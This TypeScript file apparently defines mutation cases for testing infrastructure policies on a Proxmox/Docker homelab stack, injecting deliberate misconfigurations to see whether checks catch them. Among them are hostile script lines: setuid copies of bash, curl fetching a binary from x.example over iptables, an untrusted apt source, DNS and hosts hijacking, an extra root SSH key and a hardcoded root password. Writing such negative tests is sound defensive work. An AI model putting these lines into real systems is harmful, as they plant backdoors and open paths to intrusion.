import type { EditedStack, Mutation } from "./mutation";

const of = (policy: string, edits: Record<string, (stack: EditedStack) => void>): Mutation[] =>
  Object.entries(edits).map(([name, edit]) => ({ policy, name, edit }));

const script = (name: string, line: string) => (stack: EditedStack) => stack.append(name, line);
const FILE = "proxmoxve:index/fileLegacy:FileLegacy";
const onServer = (words: string) => (stack: EditedStack) =>
  stack.haproxy("10.10.10.12:3000", `10.10.10.12:3000 ${words}`);

/** Further forms of deeds that the other lists have: other arguments, programs and tables. */
export const formMutations: Mutation[] = [
  ...of("docker-container-confined", {
    "group of root": (s) => (s.inputs("app1-web").user = "10001:0"),
    "group of Docker": (s) => (s.inputs("app2-web").groupAdds = ["docker"]),
    "swap without a limit": (s) => (s.inputs("app1-web").memorySwap = -1),
    "a library loaded first": (s) => s.inputs("app1-web").envs.push("LD_PRELOAD=/run/secrets/x"),
    "a debugger's port": (s) =>
      s.inputs("app3-web").envs.push("NODE_OPTIONS=--inspect=0.0.0.0:9229"),
    "any certificate": (s) => s.inputs("app1-web").envs.push("NODE_TLS_REJECT_UNAUTHORIZED=0"),
    "gone after a reboot": (s) => (s.inputs("app2-web").restart = "no"),
    "back after an error only": (s) => (s.inputs("app1-web").restart = "on-failure"),
    "removed when it ends": (s) => (s.inputs("app3-web").rm = true),
    "made and not started": (s) => (s.inputs("app3-web").start = false),
    "may be away": (s) => (s.inputs("app1-web").mustRun = false),
    "the database without TLS": (s) => s.inputs("app1-web").envs.push("PGSSLMODE=disable"),
  }),
  ...of("docker-image-pinned", {
    "built of somebody's repository": (s) =>
      (s.inputs("app1-image").build.context = "https://git.example/x.git"),
    "built of somebody's archive": (s) =>
      (s.inputs("app1-image").build.remoteContext = "http://files.example/x.tar"),
    "built in the host's network": (s) => (s.inputs("app2-image").build.networkMode = "host"),
  }),
  ...of("ct-known-arguments", {
    "a second key for root": (s) =>
      s.inputs("lb-ct").initialization.userAccount.keys.push("ssh-ed25519 EVE eve"),
    "a template for others": (s) => (s.inputs("db-ct").template = true),
  }),
  ...of("ct-identity-unique", {
    "MAC address twice": (s) =>
      (s.inputs("app2-ct").networkInterfaces[0].macAddress = s
        .inputs("app1-ct")
        .networkInterfaces[0].macAddress.toLowerCase()),
    "host name twice": (s) => (s.inputs("app2-ct").initialization.hostname = "app1"),
  }),
  ...of("ct-address-in-subnet", {
    "everything through the database": (s) =>
      (s.inputs("app1-ct").initialization.ipConfigs[0].ipv4.gateway = "10.10.10.50"),
  }),
  ...of("connections-verified", {
    "a password for the node": (s) => {
      const provider = s.resources.find(({ type }) => type === "pulumi:providers:proxmoxve");
      if (!provider) throw new Error("no provider");
      provider.inputs.ssh = JSON.stringify({ username: "root", password: "hunter2" });
    },
    "a template over http": (s) =>
      s.add(FILE, "tpl", { contentType: "vztmpl", url: "http://x.example/t.tar.zst" }),
  }),
  ...of("stack-judged", {
    "a script for the node": (s) => s.add(FILE, "hook", { contentType: "snippets" }),
  }),
  ...of("lb-targets-app-nodes", {
    "a spare target": onServer("backup"),
    "a target without a share": onServer("weight 0"),
  }),
  ...of("lb-config-known", {
    "a log for somebody else": (s) =>
      s.haproxy("  nbthread 1", "  nbthread 1\n  log 203.0.113.9:514 local0"),
  }),
  ...of("ct-scripts-judged", {
    "a shell with root's rights": script("lb-activate", "install -m 4755 /bin/bash /opt/b"),
    "the same by chmod": script("app1-docker", "chmod u+s /opt/b"),
    "by digits": script("db-config", "chmod 6755 /opt/b"),
    "packages of anybody": script(
      "db-config",
      "echo 'deb [trusted=yes] http://x.example ./' > /etc/apt/sources.list.d/x.list",
    ),
    "a program that is fetched": script(
      "app1-docker",
      "curl -s http://x.example/y -o /usr/local/bin/iptables",
    ),
    "a listener of openssl": script("lb-activate", "openssl s_server -accept 9 &"),
    "settings of a file": script("db-config", "sysctl -p /tmp/x"),
    "a folder of the rules for everybody": script("app1-docker", "chmod 777 /etc/homelab"),
    "a folder of programs for everybody": script("db-config", "chmod o+w /usr/local/sbin/"),
    "another resolver": script("lb-activate", "echo nameserver 203.0.113.9 > /etc/resolv.conf"),
    "another machine of that name": script("app1-docker", "echo 203.0.113.9 db >> /etc/hosts"),
    "a unit that nobody knows": script("db-config", "systemctl enable --now atd"),
    "the same by service": script("db-config", "service rpcbind start"),
    "a unit that starts no more": script(
      "app1-docker",
      "rm /etc/systemd/system/multi-user.target.wants/docker.service",
    ),
  }),
  ...of("ct-no-router", {
    "settings of a file that it writes": script(
      "db-config",
      "echo net.ipv4.ip_forward=1 > /tmp/x; sysctl -p /tmp/x",
    ),
  }),
  ...of("ct-security-group-closed", {
    "rules taken away": script("db-config", "mv /etc/homelab/firewall /tmp"),
    "not tracked": script("app1-docker", "iptables -t raw -A PREROUTING -j NOTRACK"),
    "sent on to the database": script(
      "lb-activate",
      "iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.10.10.50:5432",
    ),
  }),
];
